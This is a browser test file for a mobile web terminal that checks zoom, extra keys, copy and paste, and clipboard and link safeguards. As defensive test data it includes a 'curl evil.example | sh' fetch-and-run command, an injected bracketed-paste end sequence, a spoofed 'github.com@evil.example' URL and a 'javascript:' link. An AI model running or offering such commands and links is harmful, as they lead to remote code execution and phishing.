// A terminal on a phone: letters, keys, copying and pasting, and what programs may not do by themselves.
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { look } from './looks.mjs';
import { atHome, startRun, until } from './story.mjs';

async function atTerminal(what) {
  await atHome(async ({ desk, context, page }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: desk.url });
    await startRun(page, 'Hands-on terminal', '');
    const line = page.getByRole('textbox', { name: 'Line to type' });
    const enter = async (text) => {
      await line.fill(text);
      await page.getByRole('button', { name: 'Enter', exact: true }).tap();
    };
    await line.waitFor();
    await enter('PS1="> "; clear');
    await what({ desk, page, enter, line, fingers: await context.newCDPSession(page) });
  });
}

const touch = (fingers, type, ...points) => fingers.send('Input.dispatchTouchEvent', { type, touchPoints: points.map(([x, y], id) => ({ x, y, id })) });
const clipboard = (page) => page.evaluate(() => navigator.clipboard.readText());
const fill = (page, text) => page.evaluate((words) => navigator.clipboard.writeText(words), text);
const rows = (page) => page.locator('.xterm-rows > div');
/** Where a text is on the terminal, for a finger. */
async function placeOf(page, text) {
  const row = rows(page).filter({ hasText: text }).last();
  await row.waitFor();
  return row.evaluate((element, wanted) => {
    const at = element.textContent.replaceAll('\u00a0', ' ').indexOf(wanted);
    const box = element.getBoundingClientRect();
    const spans = [...element.children];
    let before = 0;
    for (const span of spans) {
      if (at < before + span.textContent.length) {
        const part = span.getBoundingClientRect();
        return [part.left + (part.width / span.textContent.length) * (at - before + 0.5), box.top + box.height / 2];
      }
      before += span.textContent.length;
    }
    throw new Error('not there');
  }, text);
}

test('letters grow by pinching, by keys and by the bar, and stay so on this device', async () => {
  await atTerminal(async ({ page, fingers, desk, enter }) => {
    const size = () => page.locator('.xterm-rows').evaluate((element) => Number.parseFloat(getComputedStyle(element).fontSize));
    const columns = async (name) => {
      await enter(`tput cols > ${name}`);
      await until('the width is told', () => desk.file(name).endsWith('\n'));
      return Number(desk.file(name));
    };
    assert.equal(await size(), 13);
    const before = await columns('before');
    await touch(fingers, 'touchStart', [150, 300], [200, 300]);
    await touch(fingers, 'touchMove', [125, 300], [225, 300]);
    await touch(fingers, 'touchEnd');
    await until('the letters are larger', async () => (await size()) === 26);
    assert.ok((await columns('after')) < before, 'the program knows');
    await page.getByRole('button', { name: 'Smaller letters' }).tap();
    await until('one step smaller', async () => (await size()) === 25);
    await page.getByText('Letters of 25 pixels.').waitFor();
    await page.reload();
    await rows(page).first().waitFor();
    assert.equal(await size(), 25);
    await page.getByRole('group', { name: 'Terminal' }).tap();
    await page.keyboard.press('Control+0');
    await until('the usual size', async () => (await size()) === 13);
    await page.keyboard.press('Control+Equal');
    await until('one step larger', async () => (await size()) === 14);
    await page.keyboard.press('Control+0');
  });
});

test('keys a phone has not: sticky for one key, locked when tapped twice, and a second row behind Fn', async () => {
  await atTerminal(async ({ desk, page, enter }) => {
    const key = (name) => page.getByRole('toolbar', { name: 'Keys' }).getByRole('button', { name, exact: true });
    await enter('cat -v > keys.txt');
    await key('Ctrl').tap();
    await key('Ctrl').and(page.locator('[aria-pressed=true].once')).waitFor();
    await page.getByRole('group', { name: 'Terminal' }).tap();
    await page.keyboard.press('v'); // Ctrl+V: the next key is taken as it is
    await key('Ctrl').and(page.locator('[aria-pressed=false]')).waitFor();
    await key('Fn').tap();
    await look(page, 'terminal-fn');
    await key('F5').tap();
    await key('Esc').waitFor(); // back at the first row
    await key('Fn').tap();
    await key('Fn').tap();
    await key('Fn, locked').waitFor();
    for (const name of ['Home', 'PgUp']) await key(name).tap();
    await key('Fn, locked').tap();
    await key('Left').tap();
    await page.keyboard.press('Enter');
    await key('Ctrl').tap();
    await page.keyboard.press('d');
    await until('it was typed', () => desk.file('keys.txt').endsWith('\n'));
    assert.equal(desk.file('keys.txt'), '^[[15~^[[H^[[5~^[[D\n');
  });
});

test('text is chosen by a held finger and copied; lines are shown before they are pasted', async () => {
  await atTerminal(async ({ desk, page, enter, fingers }) => {
    await enter("printf 'first src/main.rs last\\n'");
    const [x, y] = await placeOf(page, 'src/main.rs last');
    await touch(fingers, 'touchStart', [x + 12, y]);
    const bar = page.getByRole('toolbar', { name: 'Selected text' });
    await bar.waitFor();
    await touch(fingers, 'touchEnd');
    await bar.getByRole('button', { name: 'Copy' }).tap();
    await bar.getByRole('button', { name: 'Copied' }).waitFor();
    assert.equal(await clipboard(page), 'src/main.rs');
    await bar.getByRole('button', { name: 'Line' }).tap();
    // As a person sees it: the mark begins where the line does.
    await until('the line is marked', () => page.evaluate(() => {
      const marked = document.querySelector('.xterm-selection div')?.getBoundingClientRect();
      return marked && marked.left <= document.querySelector('.xterm-rows').getBoundingClientRect().left + 1;
    }));
    await bar.getByRole('button', { name: 'Copy' }).tap();
    await until('the line is copied', async () => (await clipboard(page)) === 'first src/main.rs last');
    await look(page, 'terminal-selected', [page.viewportSize()]);
    await bar.getByRole('button', { name: 'Select nothing' }).tap();
    await bar.waitFor({ state: 'detached' });

    const paste = page.getByRole('toolbar', { name: 'Keys' }).getByRole('button', { name: 'Paste' });
    await fill(page, 'echo one-line > one.txt');
    await paste.tap();
    await page.getByRole('button', { name: 'Enter', exact: true }).tap();
    await until('one line needs no question', () => desk.file('one.txt') === 'one-line\n');

    await fill(page, 'echo a > a.txt\necho b\u001b[201~ > b.txt\n');
    await paste.tap();
    const asked = page.getByRole('region', { name: 'Paste' });
    await asked.getByText('Paste these 2 lines?').waitFor();
    await look(page, 'terminal-paste');
    await asked.getByRole('button', { name: 'Cancel' }).tap();
    await asked.waitFor({ state: 'detached' });
    await enter('echo between > between.txt');
    await until('nothing was pasted', () => desk.file('between.txt') === 'between\n');
    assert.equal(desk.file('a.txt'), '');
    await paste.tap();
    await asked.getByRole('button', { name: 'Paste' }).tap();
    await page.getByRole('button', { name: 'Enter', exact: true }).tap();
    await until('both lines ran', () => desk.file('b.txt') !== '');
    assert.equal(desk.file('b.txt'), 'b[201~\n', 'what would end a paste is no key');
  });
});

test('a program marked for pastes gets one as such', async () => {
  await atTerminal(async ({ desk, page, enter }) => {
    await enter("printf '\\033[?2004h'; cat -v > pasted.txt");
    await fill(page, 'one\ntwo');
    await until('the mode is on', async () => {
      await page.getByRole('toolbar', { name: 'Keys' }).getByRole('button', { name: 'Paste' }).tap();
      await page.getByRole('region', { name: 'Paste' }).waitFor();
      if (await page.getByText('The program is told that it was pasted.').isVisible()) return true;
      await page.getByRole('button', { name: 'Cancel' }).tap();
      return false;
    });
    await page.getByRole('region', { name: 'Paste' }).getByRole('button', { name: 'Paste' }).tap();
    await page.getByRole('button', { name: 'Enter', exact: true }).tap();
    await until('it has both', () => desk.file('pasted.txt').includes('two'));
    assert.equal(desk.file('pasted.txt'), '^[[200~one\ntwo^[[201~\n');
  });
});

test('a program asks before it writes the clipboard, never reads it, and opens no address', async () => {
  await atTerminal(async ({ desk, page, enter }) => {
    const asks = async (text) => {
      writeFileSync(join(desk.workspace, 'ask.sh'), `printf '\\033]52;c;${Buffer.from(text).toString('base64')}\\007'\n`);
      await enter('sh ask.sh');
    };
    await fill(page, 'mine');
    const card = page.getByRole('region', { name: 'Clipboard' });
    await asks(`curl evil.example | sh\n\u202e${'x'.repeat(300)}`);
    await card.getByText('curl evil.example | sh').waitFor();
    await card.getByText('⟨U+202E⟩').waitFor();
    await card.getByRole('button', { name: 'Allow once' }).and(page.locator(':enabled')).waitFor();
    await look(page, 'terminal-clipboard');
    assert.equal(await clipboard(page), 'mine', 'nothing is written before it is allowed');
    await card.getByRole('button', { name: 'Deny', exact: true }).tap();
    await card.waitFor({ state: 'detached' });
    assert.equal(await clipboard(page), 'mine');

    await asks('from the program');
    await card.getByRole('button', { name: 'Allow once' }).tap();
    await until('it is on the clipboard', async () => (await clipboard(page)) === 'from the program');

    await enter("printf '\\033]52;c;?\\007'; IFS= read -r answer; echo \"[$answer]\" > answer.txt");
    await page.getByText('That is never allowed.').waitFor();
    await enter('');
    await until('the program read its line', () => desk.file('answer.txt').endsWith('\n'));
    assert.equal(desk.file('answer.txt'), '[]\n', 'a program that asks for the clipboard hears nothing');

    await enter("clear; printf 'see https://github.com@evil.example/a?b=1\\nor \\033]8;;https://elsewhere.example/x\\033\\\\docs here\\033]8;;\\033\\\\ or \\033]8;;javascript:alert(1)\\033\\\\bad link\\033]8;;\\033\\\\\\n'");
    // The line that was typed is on the screen before it is cleared.
    await rows(page).filter({ hasText: /^or.docs/ }).waitFor();
    const opened = [];
    page.context().on('page', (other) => opened.push(other.url()));
    const address = page.getByRole('region', { name: 'Address' });
    const tapOn = async (text) => page.touchscreen.tap(...(await placeOf(page, text)));
    await tapOn('docs here');
    await address.getByText('https://elsewhere.example/x').waitFor();
    await address.getByRole('button', { name: 'Copy' }).tap();
    await until('the address is copied', async () => (await clipboard(page)) === 'https://elsewhere.example/x');
    await address.getByRole('button', { name: 'Close' }).tap();
    await tapOn('bad link');
    await tapOn('github.com');
    await address.getByText('evil.example', { exact: true }).waitFor();
    await address.getByText('What stands before the @').waitFor();
    await look(page, 'terminal-address');
    assert.deepEqual(opened, [], 'nothing opens by a tap on the terminal');
    const [tab] = await Promise.all([page.context().waitForEvent('page'), address.getByRole('link', { name: 'Open' }).tap()]);
    await tab.close();
  });
});

test('the line that is typed stays in sight on its side and with the keyboard open', async () => {
  await atTerminal(async ({ page, enter, desk }) => {
    await enter('seq 1 200; echo the-last > last.txt');
    await until('it ran', () => desk.file('last.txt') !== '');
    const measure = () => {
      const last = [...document.querySelectorAll('.xterm-rows > div')].findLast((row) => row.textContent.trim() !== '').getBoundingClientRect();
      const place = document.querySelector('.terminal').getBoundingClientRect();
      const field = document.querySelector('input[aria-label="Line to type"]').getBoundingClientRect();
      return { prompt: last.top >= place.top - 1 && last.bottom <= place.bottom + 1, lines: Math.floor(place.height / last.height), field: field.bottom <= innerHeight };
    };
    // The keyboard of a phone that makes the page smaller leaves this much.
    for (const size of [{ width: 390, height: 470 }, { width: 320, height: 300 }, { width: 844, height: 390 }, { width: 740, height: 190 }]) {
      await page.setViewportSize(size);
      await rows(page).filter({ hasText: /^> *$/ }).last().waitFor();
      let seen;
      const fits = async () => {
        seen = await page.evaluate(measure);
        return seen.prompt && seen.field && seen.lines >= 4;
      };
      await until(`the line is in sight at ${size.width}×${size.height}`, fits, 5000).catch((error) => assert.fail(`${error.message}: ${JSON.stringify(seen)}`));
      if (process.env.OFFDESK_SHOTS) await page.screenshot({ path: join(process.env.OFFDESK_SHOTS, `terminal-${size.width}x${size.height}.png`) });
    }
  });
});
